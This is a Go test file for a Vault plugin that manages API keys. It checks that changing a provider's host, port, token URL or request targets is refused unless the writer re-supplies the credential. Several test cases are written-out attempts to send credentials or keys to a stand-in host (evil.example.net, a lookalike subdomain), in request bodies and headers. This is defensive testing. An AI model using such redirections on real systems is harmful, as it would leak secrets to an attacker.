package apikeys

import (
	"maps"
	"testing"

	"github.com/hashicorp/vault/sdk/logical"
)

// webSettings are those of a service at base whose token endpoint is login.
func webSettings(base, login string) map[string]any {
	return map[string]any{
		"variables": map[string]any{"url": base, "login": login},
		"auth":      map[string]any{"type": "oauth2", "token_url": "{{var.login}}/token", "client_id": "id", "client_secret": "{{credential.key}}"},
		"create":    map[string]any{"url": "{{var.url}}/keys", "id": "$.id", "values": map[string]any{"key": "$.key"}},
		"test":      map[string]any{"url": "{{var.url}}/me", "auth": map[string]any{"type": "bearer", "token": "{{value.key}}"}},
	}
}

// Who may write settings is not told the credential: a place to which it did
// not go before asks for it again, in whatever field the place stands.
func TestChangeOfHostAsksForTheCredential(t *testing.T) {
	const base, login = "https://api.example.com", "https://login.example.com"
	settings := func(change func(s map[string]any)) map[string]any {
		s := webSettings(base, login)
		change(s)
		return s
	}
	variable := func(name, v string) func(map[string]any) {
		return func(s map[string]any) { s["variables"].(map[string]any)[name] = v }
	}
	request := func(op string, fields map[string]any) func(map[string]any) {
		return func(s map[string]any) {
			one := map[string]any{}
			if old, ok := s[op].(map[string]any); ok {
				maps.Copy(one, old)
			}
			maps.Copy(one, fields)
			s[op] = one
		}
	}
	for name, tc := range map[string]struct {
		settings map[string]any
		refused  string // the place; "": accepted
	}{
		"a variable":             {settings(variable("url", "https://evil.example.net")), "https://evil.example.net"},
		"another port":           {settings(variable("url", base+":8443")), base + ":8443"},
		"the token's url":        {settings(variable("login", "https://evil.example.net")), "https://evil.example.net"},
		"a subdomain":            {settings(variable("url", "https://api.example.com.evil.net")), "https://api.example.com.evil.net"},
		"one request of many":    {settings(request("revoke", map[string]any{"url": "https://evil.example.net/{{id}}"})), "https://evil.example.net"},
		"in the body":            {settings(request("list", map[string]any{"url": "https://evil.example.net/", "method": "POST", "auth": map[string]any{"type": "none"}, "json": map[string]any{"t": "{{credential.key}}"}, "items": "$", "id": "$.id"})), "https://evil.example.net"},
		"in a header":            {settings(request("list", map[string]any{"url": "https://evil.example.net/", "auth": map[string]any{"type": "none"}, "headers": map[string]any{"X-T": "{{credential.key}}"}, "items": "$", "id": "$.id"})), "https://evil.example.net"},
		"another path":           {settings(request("create", map[string]any{"url": "{{var.url}}/v2/keys"})), ""},
		"another setting":        {settings(func(s map[string]any) { s["max_keys"] = 7 }), ""},
		"nothing secret is sent": {settings(request("list", map[string]any{"url": "https://status.example.net/", "auth": map[string]any{"type": "none"}, "items": "$", "id": "$.id"})), ""},
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t, remoteCaps())
			w.write("providers/web", map[string]any{"type": "http", "credential": map[string]any{"key": "canary-1"}, "settings": webSettings(base, login)})
			write := map[string]any{"settings": tc.settings}
			if tc.refused == "" {
				w.write("providers/web", write)
				return
			}
			w.refused(logical.UpdateOperation, "providers/web", write, "would send its credential to "+tc.refused, "write the credential")
			if got := w.read("providers/web", nil)["settings"].(map[string]any)["variables"].(map[string]any)["url"]; got != base {
				t.Errorf("half of it was stored: %v", got)
			}
			write["credential"] = map[string]any{}
			w.refused(logical.UpdateOperation, "providers/web", write) // emptied: nothing to send, and refused for that
			write["credential"] = map[string]any{"key": "canary-1"}
			w.write("providers/web", write)
			w.write("providers/web", map[string]any{"settings": tc.settings}) // where it goes now
		})
	}
}

// The keys themselves are sent to the service when they are tested. A new
// credential does not show that its writer may have them.
func TestChangeOfHostWithKeys(t *testing.T) {
	w := newWorld(t, remoteCaps())
	bearer := map[string]any{"type": "bearer", "token": "{{value.key}}"}
	hand := func(url string) map[string]any {
		return map[string]any{"variables": map[string]any{"url": url}, "create": map[string]any{"auth": bearer,
			"url": "{{var.url}}/rotate", "replaces_current": true, "id": "$.id", "values": map[string]any{"key": "$.key"}}}
	}
	w.write("providers/hand", map[string]any{"type": "http", "settings": hand("https://a.example.com")})
	w.write("providers/hand", map[string]any{"settings": hand("https://b.example.com")}) // it has no keys
	w.write("keys/h", map[string]any{"provider": "hand"})
	for _, credential := range []map[string]any{nil, {"key": "made up"}} {
		write := map[string]any{"settings": hand("https://evil.example.net")}
		if credential != nil {
			write["credential"] = credential
		}
		w.refused(logical.UpdateOperation, "providers/hand", write, "would send its 1 key to https://evil.example.net")
	}
	w.write("providers/hand", map[string]any{"settings": hand("https://b.example.com")})
}

// A provider whose credential is a key of the mount shows what the key holds.
func TestChangeOfHostWithCredentialKey(t *testing.T) {
	w := newWorld(t, remoteCaps())
	w.remoteKey("ops/admin", nil)
	w.tick()
	value, _ := w.read("creds/ops/admin", nil)["key"].(string)
	if value == "" {
		t.Fatal("no value")
	}
	w.refused(logical.CreateOperation, "providers/web", map[string]any{"type": "http", "credential_key": "ops/admin", "settings": webSettings("https://evil.example.net", "https://evil.example.net")},
		`would send the key "ops/admin" to https://evil.example.net`)
	write := map[string]any{"type": "http", "credential_key": "ops/admin", "settings": webSettings("https://a.example.com", "https://a.example.com"), "credential": map[string]any{"key": "guessed"}}
	w.refused(logical.CreateOperation, "providers/web", write, "only one of")
	write["credential"] = map[string]any{"key": value}
	w.write("providers/web", write)
	if got := w.read("providers/web", nil); got["credential_key"] != "ops/admin" || len(got["credential_fields"].([]string)) != 0 {
		t.Errorf("what was shown is stored: %v", got)
	}
	moved := map[string]any{"settings": webSettings("https://b.example.com", "https://b.example.com")}
	w.refused(logical.UpdateOperation, "providers/web", moved, "would send the key", "https://b.example.com")
	moved["credential"] = map[string]any{"key": value}
	w.write("providers/web", moved)

	// Another key of the mount is not sent there for the asking.
	w.remoteKey("prod/other", nil)
	w.tick()
	w.refused(logical.UpdateOperation, "providers/web", map[string]any{"credential_key": "prod/other"}, `would send the key "prod/other"`)
}
